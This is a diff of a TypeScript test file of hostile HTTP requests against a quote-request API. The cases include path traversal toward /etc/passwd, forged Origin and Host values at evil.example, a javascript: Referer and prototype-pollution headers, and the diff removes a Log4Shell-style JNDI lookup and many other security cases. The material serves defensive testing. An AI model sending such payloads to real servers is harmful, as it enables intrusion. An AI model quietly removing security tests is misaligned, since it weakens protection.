@@ -1,5 +1,4 @@
 import { aQuoteRequest } from "../../support/intake/aQuoteRequest";
-import { everyField } from "./bodies";
 import { form, json, quote } from "./builders";
 import {
   accepted,
@@ -24,8 +23,8 @@ function typed(type: string | undefined, body: string | Uint8Array = text): Host
 }
 
 const methods: HostileCase[] = [
-  ...["GET", "PUT", "DELETE", "OPTIONS", "PROPFIND", "TRACE", "QUERY", "M-SEARCH"].flatMap(
-    (method) => cases(allowPost, { [method]: { ...json(text), method } }),
+  ...["GET", "PUT", "PROPFIND", "TRACE", "QUERY"].flatMap((method) =>
+    cases(allowPost, { [method]: { ...json(text), method } }),
   ),
   ...cases(allowPost, {
     HEAD: { method: "HEAD" },
@@ -41,42 +40,24 @@ const methods: HostileCase[] = [
         ["Access-Control-Request-Headers", "content-type"],
       ],
     },
-    "X-HTTP-Method-Override on a GET": {
-      ...json(text, { "X-HTTP-Method-Override": "POST" }),
-      method: "GET",
-    },
   }),
   ...cases(accepted, {
     "X-HTTP-Method-Override on a POST": quote({}, { "X-HTTP-Method-Override": "DELETE" }),
-    "_method in the address": { ...quote(), path: "/api/quote-requests?_method=DELETE" },
   }),
   ...cases(posted, { "_method in a form": form({ _method: "DELETE" }) }),
-  ...cases(invalid(...everyField), {
-    "a request in the query with an empty body": {
-      ...json("{}"),
-      path: `/api/quote-requests?${new URLSearchParams(aQuoteRequest()).toString()}`,
-    },
-  }),
 ];
 
 const contentTypes: HostileCase[] = [
   ...[
     "text/plain;charset=UTF-8",
-    "text/json",
-    "application/x-ndjson",
     "application/json-patch+json",
     "application/json, text/plain",
-    "application/json; charset=utf-16",
     "application/json; charset=utf-8; boundary=x",
-    "json",
-    "*/*",
     "application/x-www-form-urlencoded; charset=shift_jis",
     "Multipart/Form-Data; boundary=x",
-    "(application/json)",
   ].flatMap((type) => cases(wrongType, { [`Content-Type: ${type}`]: typed(type) })),
   ...cases(wrongType, {
     "no Content-Type": typed(undefined),
-    "an empty Content-Type": typed(""),
     "Content-Type of 4,000 letters": typed(`application/json; ${"x".repeat(4000)}`),
     "a real multipart form with a file": typed(
       "multipart/form-data; boundary=XX",
@@ -94,9 +75,9 @@ const contentTypes: HostileCase[] = [
     },
   }),
   ...cases(accepted, {
-    "Content-Type in capitals": typed("APPLICATION/JSON; CHARSET=UTF-8"),
-    "Content-Type with a quoted charset": typed('application/json;charset="utf-8"'),
-    "Content-Type with blanks and semicolons": typed("application/json ; charset=utf-8 ;"),
+    "Content-Type with capitals, blanks and semicolons": typed(
+      "APPLICATION/json ; charset=utf-8 ;",
+    ),
   }),
 
   // Node keeps the first of two; Netlify joins them to an unknown type. Both are harmless.
@@ -124,15 +105,11 @@ const origins: HostileCase[] = [
     "https://evil.example",
     `${site}:8443`,
     `${site}.evil.example`,
-    "https://dogwoodcleaning.example",
     `${site}@evil.example`,
     "null",
-    "",
-    `${site}, https://evil.example`,
-    "HTTPS://WWW.DOGWOODCLEANING.EXAMPLE.",
   ].flatMap((origin) => cases(forbidden, { [`Origin: ${origin}`]: quote({}, { Origin: origin }) })),
   // A page under any name of the host that it posts to is ours, and over plain HTTP its browser sends no Sec-Fetch-Site.
-  ...["http://www.dogwoodcleaning.example", `${site}/`].flatMap((origin) => [
+  ...["http://www.dogwoodcleaning.example"].flatMap((origin) => [
     ...cases(accepted, {
       [`Origin: ${origin} at the same Host`]: quote(
         {},
@@ -148,16 +125,10 @@ const origins: HostileCase[] = [
       ["Origin", site],
       ["Origin", "https://evil.example"],
     ]),
-    "Sec-Fetch-Site: cross-site": quote({}, { "Sec-Fetch-Site": "cross-site" }),
     "Sec-Fetch-Site: cross-site with our Origin": quote(
       {},
       { "Sec-Fetch-Site": "cross-site", Origin: site },
     ),
-    "Sec-Fetch-Site: same-site from another subdomain": quote(
-      {},
-      { "Sec-Fetch-Site": "same-site", Origin: "https://shop.dogwoodcleaning.example" },
-    ),
-    "Sec-Fetch-Site: something new": quote({}, { "Sec-Fetch-Site": "galaxy" }),
     "Sec-Fetch-Site: same-origin with a foreign Origin and Host": quote(
       {},
       { "Sec-Fetch-Site": "same-origin", Origin: "https://evil.example" },
@@ -189,10 +160,6 @@ const tricks: HostileCase[] = [
         "X-Forwarded-Proto": "http",
       },
     ),
-    "X-Original-URL and X-Rewrite-URL": quote(
-      {},
-      { "X-Original-URL": "/api/health", "X-Rewrite-URL": "/admin" },
-    ),
     "a foreign Host": quote({}, { Host: "evil.example" }),
     "a foreign Host and the matching Origin": quote(
       {},
@@ -200,34 +167,19 @@ const tricks: HostileCase[] = [
     ),
     "a cookie of 4,000 letters": quote({}, { Cookie: `__proto__=1; a=${"x".repeat(4000)}` }),
     "a bearer token": quote({}, { Authorization: "Bearer eyJhbGciOiJub25lIn0.e30." }),
-    "User-Agent with a Java expression": quote(
-      {},
-      { "User-Agent": "${jndi:ldap://evil.example/a}" },
-    ),
     "User-Agent with terminal codes": quote(
       {},
       { "User-Agent": "\x9b31mred", Referer: "javascript:alert(1)" },
     ),
     "Accept of anything": quote({}, { Accept: "text/html" }),
-    "Range, If-Match and If-None-Match": quote(
-      {},
-      { Range: "bytes=0-1", "If-Match": '"x"', "If-None-Match": "*" },
-    ),
     "Expect: 100-continue": quote({}, { Expect: "100-continue" }),
     "Upgrade: websocket": quote({}, { Upgrade: "websocket" }),
-    "Trailer and TE": quote({}, { Trailer: "X-Bad", TE: "trailers" }),
     "a header called __proto__": quote({}, { __proto__: "polluted", constructor: "x" }),
     "a hundred headers": quote(
       {},
       Array.from({ length: 100 }, (_, n): [string, string] => [`X-H${n}`, "x"]),
     ),
     "Latin-1 bytes in a header": quote({}, { "X-Name": "Jos\xe9" }),
-  }),
-  ...cases(forbidden, {
-    "a foreign Host and another foreign Origin": quote(
-      {},
-      { Host: "evil.example", Origin: "https://other.example" },
-    ),
   }),
 ];
 
@@ -243,10 +195,8 @@ const idempotencyKeys: HostileCase[] = [
     "a key called __proto__": quote({}, { "Idempotency-Key": "__proto__" }),
   }),
   ...cases(badRequest, {
-    "a key of 7 letters": quote({}, { "Idempotency-Key": "1234567" }),
     "a key of 256 letters": quote({}, [["Idempotency-Key", "k".repeat(256)]]),
     "an empty key header": quote({}, { "Idempotency-Key": "" }),
-    "a key with a blank inside": quote({}, { "Idempotency-Key": "abcd efgh" }),
     "a key with letters beyond ASCII": quote({}, { "Idempotency-Key": "caf\xe9caf\xe9caf\xe9" }),
   }),
 
@@ -275,14 +225,10 @@ const paths: HostileCase[] = [
     "/api/quote-requests/",
     "/api/quote-requests/../health",
     "/api/quote-requests%00",
-    "/api",
     "/api/__proto__",
-    "/api/../package.json",
     "/api/..%2f..%2f..%2fetc%2fpasswd",
     "/api//quote-requests",
-    "/api/notifications",
     "/api/%ff",
-    "/api/notifications/deliver",
   ].flatMap((path) =>
     cases(notFound, { [`POST ${path}`]: { ...quote(), path } }, { only: "server" }),
   ),
